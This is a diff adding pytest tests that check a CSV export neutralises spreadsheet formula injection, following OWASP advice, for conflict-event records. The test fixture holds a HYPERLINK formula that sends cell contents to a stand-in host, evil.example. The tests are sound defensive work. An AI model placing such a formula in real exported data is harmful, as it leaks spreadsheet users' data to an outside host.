@@ -100,3 +100,22 @@ def test_region(country: str, iso: int | None, expected: str) -> None:
 def test_assoc_actor_lists_are_joined() -> None:
     _, (row,), _ = rows_of([record("MRS1", "occurred", assoc_actor_2=["X", "Y"], event_date=None)])
     assert row["assoc_actor_2"] == "X; Y" and row["year"] == ""
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+@pytest.mark.parametrize("fmt", ["acled-csv", "csv"])
+def test_formula_cells_are_neutralised(start: str, fmt: str) -> None:
+    """OWASP's CSV injection advice: a text cell a spreadsheet would run gets a leading quote."""
+    formula = start + 'HYPERLINK("http://evil.example/?"&A1,"click")'
+    rec = record("MRS1", "occurred", actor1=formula, notes=formula, location="-Afrin", longitude=-3.2)
+    buf = io.StringIO()
+    write_records([rec], fmt, buf)
+    row = next(csv.DictReader(io.StringIO(buf.getvalue())))
+    assert row["actor1"] == "'" + formula and row["notes"] == "'" + formula
+    assert row["location"] == "'-Afrin"
+    assert row["longitude"] == "-3.2" and row["latitude"] == "35.3"  # numbers stay numbers
+
+
+def test_ordinary_cells_are_unchanged() -> None:
+    _, rows, _ = rows_of([record("MRS1", "occurred", actor1="Military Forces of Syria")])
+    assert rows[0]["actor1"] == "Military Forces of Syria" and rows[0]["notes"] == NOTES
